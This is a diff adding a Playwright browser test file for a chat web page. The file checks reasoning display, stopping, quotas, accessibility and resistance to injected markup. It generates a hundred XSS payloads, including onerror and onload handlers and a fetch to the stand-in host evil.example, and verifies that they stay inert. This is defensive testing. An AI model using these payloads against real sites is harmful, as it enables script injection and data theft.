@@ -1,0 +1,203 @@
+"""The page at / in a real browser: chat, reasoning, progress, stop, quota, hostile text, access.
+
+Chromium is Debian's, found by path; the test skips with a reason where it or a library is missing.
+"""
+
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.server.live import Live, live, scripted
+
+playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+CHROMIUM = shutil.which("chromium")
+pytestmark = pytest.mark.skipif(
+    CHROMIUM is None, reason="chromium is not installed (Debian: apt-get install chromium)"
+)
+ROOT = Path(__file__).parents[2]
+AXE = ROOT / "build" / "clients" / "node_modules" / "axe-core" / "axe.min.js"
+ARTEFACTS = ROOT / "build" / "screenshots"
+WAIT_MS = 30_000
+
+TAGS = ("script", "img src=x onerror", "svg onload", "iframe srcdoc", "a href", "details ontoggle")
+CALLS = ("alert(1)", "fetch('//evil.example')", "document.title='taken'", "parent.taken=1")
+PAYLOADS = [
+    template.format(tag=tag, name=tag.split()[0], call=call)
+    for template in (
+        "<{tag}={call}>", '<{tag}="{call}">', "<{name}>{call}</{name}>", '"><{tag}={call}>',
+        "</div><{tag}={call} autofocus>",
+    )
+    for tag in TAGS
+    for call in CALLS
+][:100]  # fmt: skip
+
+
+def script(prompt: str) -> str:
+    question = prompt.rsplit("<｜User｜>", 1)[1].split("<｜Assistant｜>")[0]
+    said = question.removeprefix("say ") if question.startswith("say ") else "Hello from the model."
+    said = "word " * 400 if question == "long" else said
+    return said if prompt.endswith("</think>") else f"A thought.</think>{said}"
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
+    with live(tmp_path_factory.mktemp("page"), scripted(script)) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright.sync_playwright() as tool:
+        opened = tool.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+@pytest.fixture
+def page(server: Live, browser: Any) -> Iterator[Any]:
+    context = browser.new_context(viewport={"width": 1200, "height": 800}, bypass_csp=False)
+    opened = context.new_page()
+    opened.foreign = []
+    opened.on("request", lambda request: opened.foreign.append(request.url))
+    opened.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
+    opened.goto(server.url)
+    playwright.expect(opened.locator("#model")).to_contain_text("test-model")
+    yield opened
+    outside = [url for url in opened.foreign if not url.startswith((server.url, "data:"))]
+    context.close()
+    assert outside == [], "the page asked other servers"
+
+
+def say(page: Any, text: str) -> None:
+    page.fill("#ask", text)
+    page.press("#ask", "Enter")
+
+
+def ended(page: Any) -> None:
+    playwright.expect(page.locator("#send")).to_be_enabled(timeout=WAIT_MS)
+
+
+def keep(page: Any, name: str) -> None:
+    ARTEFACTS.mkdir(parents=True, exist_ok=True)
+    page.screenshot(path=ARTEFACTS / f"{name}.png")
+
+
+def test_a_chat_with_folded_reasoning_and_figures(page: Any) -> None:
+    say(page, "hi")
+    playwright.expect(page.locator("article.assistant .text")).to_have_text(
+        "Hello from the model.", timeout=WAIT_MS
+    )
+    ended(page)
+    assert page.locator("article.assistant details").get_attribute("open") is None
+    assert page.locator(".reasoning").text_content() == "A thought."
+    playwright.expect(page.locator("#answer")).to_contain_text("from the cache")
+    say(page, "and again")
+    playwright.expect(page.locator("article.assistant")).to_have_count(2)
+    ended(page)
+    keep(page, "chat")
+
+
+def test_stopping_ends_the_request_in_the_engine(page: Any, server: Live) -> None:
+    say(page, "long")
+    playwright.expect(page.locator("article.assistant .text")).to_contain_text(
+        "word", timeout=WAIT_MS
+    )
+    page.keyboard.press("Escape")
+    playwright.expect(page.locator("article.assistant")).to_contain_text("(stopped)")
+    ended(page)
+    page.wait_for_timeout(500)
+    assert server.service.bridge.running == 0
+
+
+def test_progress_of_a_long_prompt_is_shown(page: Any, server: Live) -> None:
+    page.evaluate(
+        """() => { window.seen = []; new MutationObserver(() => window.seen.push(
+        document.getElementById('barlabel').textContent)).observe(
+        document.getElementById('barlabel'), {childList: true}); }"""
+    )
+    say(page, "attached " * 3000)
+    ended(page)
+    seen = page.evaluate("() => window.seen")
+    assert any("of 3," in text or "of 6," in text or "tokens" in text for text in seen), seen
+
+
+def test_a_used_up_quota_is_told(browser: Any, tmp_path: Path) -> None:
+    tiers = tmp_path / "tiers.toml"
+    tiers.write_text(
+        'currency = "USD"\n'
+        "[tiers.admin]\nadmin = true\ntokens_per_day = 50\n"
+        "price_per_million = { cache_hit = 0, cache_miss = 0, output = 0 }\n"
+    )
+    with live(tmp_path, scripted(script), tiers=tiers) as server:
+        page = browser.new_page()
+        page.goto(server.url)
+        playwright.expect(page.locator("#server")).to_contain_text("50")
+        say(page, "hi")
+        playwright.expect(page.locator("#note")).to_be_visible(timeout=WAIT_MS)
+        assert (
+            "today" in page.locator("#note").text_content()
+            or "day" in page.locator("#note").text_content()
+        )
+        keep(page, "quota")
+        page.close()
+
+
+def test_a_hundred_hostile_texts_do_nothing(page: Any) -> None:
+    assert len(set(PAYLOADS)) == 100
+    before = page.evaluate("() => document.querySelectorAll('*').length")
+    for payload in PAYLOADS:
+        page.evaluate("text => { show('assistant').text.textContent = text; note(text); }", payload)
+    for payload in PAYLOADS[::20]:
+        say(page, f"say {payload}")
+        ended(page)
+        shown = page.locator("article.assistant .text").last.text_content()
+        assert shown == payload
+    found = page.evaluate(
+        """() => ({title: document.title, taken: window.taken || null,
+        tags: document.querySelectorAll(
+            '#talk script, #talk img, #talk svg, #talk iframe, #talk a').length})"""
+    )
+    assert found == {"title": "Overleap", "taken": None, "tags": 0}
+    assert page.evaluate("() => document.querySelectorAll('*').length") > before
+
+
+def test_foreign_scripts_are_refused_by_policy(page: Any) -> None:
+    page.evaluate(
+        """() => { const made = document.createElement('script');
+        made.textContent = 'window.taken = 1';
+        document.body.append(made); document.body.insertAdjacentHTML('beforeend',
+        '<img src="x" onerror="window.taken = 2">'); }"""
+    )
+    page.wait_for_timeout(200)
+    assert page.evaluate("() => window.taken || null") is None
+
+
+@pytest.mark.parametrize(
+    ("scheme", "width"), [("light", 1200), ("dark", 1200), ("light", 390), ("dark", 390)]
+)
+def test_no_serious_finding_of_axe(browser: Any, server: Live, scheme: str, width: int) -> None:
+    if not AXE.exists():
+        pytest.skip("axe-core is not installed (npm install --prefix build/clients axe-core)")
+    context = browser.new_context(
+        color_scheme=scheme, viewport={"width": width, "height": 800}, bypass_csp=True
+    )
+    page = context.new_page()
+    page.goto(server.url)
+    playwright.expect(page.locator("#model")).to_contain_text("test-model")
+    say(page, "hi")
+    ended(page)
+    page.evaluate(AXE.read_text("utf-8"))
+    found = page.evaluate("() => axe.run()")
+    keep(page, f"{scheme}-{width}")
+    serious = [
+        (one["id"], [node["target"] for node in one["nodes"]])
+        for one in found["violations"]
+        if one["impact"] in ("serious", "critical")
+    ]
+    assert serious == []
+    wide = page.evaluate("() => document.documentElement.scrollWidth > window.innerWidth")
+    assert not wide, "the page scrolls sideways"
+    context.close()
